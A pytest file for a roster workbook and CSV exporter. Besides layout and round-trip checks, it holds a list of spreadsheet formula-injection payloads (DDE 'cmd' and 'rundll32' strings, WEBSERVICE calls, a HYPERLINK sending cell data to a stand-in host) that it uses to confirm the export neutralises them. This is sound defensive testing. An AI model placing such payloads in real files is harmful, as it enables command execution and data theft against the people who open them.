"""Workbooks and CSV to download: as the roster has it, ready to print, nothing that computes."""

import csv
import io
import itertools
import re
from datetime import date, datetime

import pytest

from partyhub.domain.rosters.cells import Row
from partyhub.domain.rosters.columns import HEADINGS, Column
from partyhub.domain.rosters.header import find_header
from partyhub.domain.rosters.reading import read_roster
from partyhub.integrations.workbooks.csv_writer import csv_file
from partyhub.integrations.workbooks.layout import ExportStamp
from partyhub.integrations.workbooks.reader import read_sheet
from partyhub.integrations.workbooks.template import template
from partyhub.integrations.workbooks.writer import refused, roster
from tests.workbook_parts import SHEET, parts_of

TODAY = date(2026, 11, 22)
STAMP = ExportStamp("张&联络", datetime(2026, 11, 22, 15, 30))  # noqa: DTZ001 - as printed
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_STARTS = (
    *TRIGGERS,
    "\n=",
    " =",
    "　=",
    "＝",
    "＋",
    ";=",
    ",=",
    "a\n=",
    "a\r\n+",
    "a,@",
    "a;-",
    "a|=",
)
_BODIES = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x/?"&A1,"点我")', "SUM(A1:A9)", "2+cmd|'/C a'!A0",
    "IMPORTXML(CONCAT(A1),B1)", "WEBSERVICE(A1)", "DDE(A1)", "A1", "'1", '"&A1&"', "{=1}",
    "<f>1</f>",
    "]]><f>1</f>", "&lt;f&gt;", "－1", "\x00=1", "_x003D_1", "rundll32", "@SUM(1)", "%0A=1", "=1",
    "+1", "-1", "1;=1", "1,=1", "1\n=1", "1\r=1", "1\t=1", "甲",
)  # fmt: skip
LONG = "".join(map(chr, range(0x4E00, 0x4E00 + 20_000))) * 2
PAYLOADS = [start + body for start, body in itertools.product(_STARTS, _BODIES)][:500]


def _formulas(workbook: bytes) -> int:
    sheets = (xml for name, xml in parts_of(workbook).items() if "/worksheets/sheet" in name)
    return sum(len(re.findall(rb"<f[ >/]", xml)) for xml in sheets)


def _rows_with(payloads: list[str]) -> list[tuple[str, ...]]:
    return [(str(number), payload, payload) for number, payload in enumerate(payloads)]


def test_no_payload_becomes_a_formula_in_a_roster() -> None:
    """Security case 13."""
    assert len(PAYLOADS) == 500
    data = roster("=1+1", ["序号", "=cmd()", "@备注"], _rows_with(PAYLOADS), stamp=STAMP)
    assert _formulas(data) == 0
    assert b"hyperlink" not in parts_of(data)[SHEET]


def test_no_payload_becomes_a_formula_in_the_refused_rows() -> None:
    """Security case 13."""
    sheet: list[Row] = [["姓名", "联系电话", "备注"]]
    sheet += [[payload, payload, payload] for payload in PAYLOADS]
    reading = read_roster(sheet, today=TODAY)
    assert len(reading.faults) > 400
    assert _formulas(refused(sheet, reading.header, reading.faults, stamp=STAMP)) == 0


def test_no_payload_begins_a_cell_of_a_csv() -> None:
    """Security case 13."""
    data = csv_file(["序号", "=a", "b"], _rows_with(PAYLOADS))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [len(row) for row in rows] == [3] * 501
    assert not [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_no_payload_begins_a_cell_for_a_program_with_another_separator(separator: str) -> None:
    """Security case 13. Line ends count as blank here: a misread quote may open a cell with one."""
    text = csv_file(["序号", "=a", "b"], _rows_with(PAYLOADS)).decode("utf-8-sig")
    cells = itertools.chain(*csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert not [cell for cell in cells if cell.lstrip("\r\n").startswith(TRIGGERS)]


def test_a_roster_is_read_back_as_it_was_written() -> None:
    """CHK-20."""
    rows = [("1", "张三", "138****8000"), ("2", "李四", "=1+1")]
    data = roster("附5 花名册", ["序号", "姓名", "联系电话"], rows, stamp=STAMP)
    assert read_sheet(data) == [
        ["附5 花名册", None, None], ["序号", "姓名", "联系电话"], *map(list, rows)
    ]  # fmt: skip


def test_a_printed_page_is_landscape_a4_with_head_and_watermark() -> None:
    parts = parts_of(roster("花名册", ["姓名", "联系电话"], [], stamp=STAMP))
    sheet, book = parts[SHEET].decode(), parts["xl/workbook.xml"].decode()
    assert re.search(r'<pageSetup [^>]*paperSize="9"[^>]*orientation="landscape"', sheet)
    assert "导出人：张&amp;&amp;联络" in sheet
    assert "导出时间：2026-11-22 15:30" in sheet
    assert 'state="frozen"' in sheet
    assert "$1:$2" in book


def test_the_template_is_taken_back_as_it_is() -> None:
    header = find_header(read_sheet(template()))
    assert set(header.columns) == set(Column) - {Column.REFUSED_BECAUSE}
    assert header.unknown == ()


def test_the_template_offers_lists_and_says_how_to_fill_it_in() -> None:
    parts = parts_of(template())
    assert parts[SHEET].count(b"<dataValidation ") == 3
    assert "填写说明" in parts["xl/workbook.xml"].decode()


def test_refused_rows_keep_their_columns_and_say_what_to_mend() -> None:
    sheet: list[Row] = [
        ["花名册", None, None, None, None],
        ["籍贯", "手机号", "姓名", "出生年月", "需修改原因"],
        ["某省", 1380013800.0, "=张三", 31229.0, "旧的原因"],
        ["某省", 13800138000.0, "李四", 1985.1, None],
    ]
    reading = read_roster(sheet, today=TODAY)
    data = refused(sheet, reading.header, reading.faults, stamp=STAMP)
    back = read_sheet(data)
    assert back[1] == ["籍贯", "手机号", "姓名", "出生年月", HEADINGS[Column.REFUSED_BECAUSE]]
    assert back[2][:4] == ["某省", "1380013800", "=张三", "1985-07-01"]
    assert "手机号：手机号应为 11 位，这里是 10 位" in str(back[2][4])
    assert back[3][:4] == ["某省", "13800138000", "李四", "1985.1"]
    assert "1985.10" in str(back[3][4])


def test_faulty_cells_are_marked_and_commented() -> None:
    sheet: list[Row] = [["姓名", "手机号"], ["李四", "1380013800"]]
    reading = read_roster(sheet, today=TODAY)
    parts = parts_of(refused(sheet, reading.header, reading.faults, stamp=STAMP))
    assert "应为 11 位" in parts["xl/comments1.xml"].decode()
    marked = re.search(r'<c r="B3" s="(\d+)"', parts[SHEET].decode())
    plain = re.search(r'<c r="A3" s="(\d+)"', parts[SHEET].decode())
    assert marked
    assert plain
    assert marked[1] != plain[1]


def test_mended_rows_are_accepted() -> None:
    sheet: list[Row] = [["姓名", "手机号"], ["李四", "1380013800"]]
    reading = read_roster(sheet, today=TODAY)
    back = read_sheet(refused(sheet, reading.header, reading.faults, stamp=STAMP))
    back[2][1] = "13800138000"
    mended = read_roster(back, today=TODAY)
    assert mended.faults == {}
    assert [row.name for row in mended.rows] == ["李四"]


@pytest.mark.parametrize("text", ["\x00", "\ud800", LONG, "𠮷", "_x000D_"])
def test_no_text_breaks_the_writer(text: str) -> None:
    data = roster(text, [text, "b"], [(text, text)], stamp=STAMP)
    assert len(read_sheet(data)) == 3
    assert csv_file([text], [(text,)])


def test_five_thousand_rows_are_written_and_read_back() -> None:
    rows = [(str(n), "张三", f"1380013{n:04d}") for n in range(5_000)]
    back = read_sheet(roster("花名册", ["序号", "姓名", "联系电话"], rows, stamp=STAMP))
    assert len(back) == 5_002


def test_what_was_counted_stands_below_the_title_on_every_page() -> None:
    """CHK-32: as of when and by which rules; without it the head is as before."""
    told = roster(
        "台账", ["序号", "姓名"], [("1", "甲")], stamp=STAMP, note="截至今日，统计口径 x/1"
    )
    assert [row[0] for row in read_sheet(told)] == ["台账", "截至今日，统计口径 x/1", "序号", "1"]
    assert b"$1:$3" in parts_of(told)["xl/workbook.xml"]
    plain = roster("台账", ["序号", "姓名"], [("1", "甲")], stamp=STAMP)
    assert [row[0] for row in read_sheet(plain)] == ["台账", "序号", "1"]
    assert b"$1:$2" in parts_of(plain)["xl/workbook.xml"]
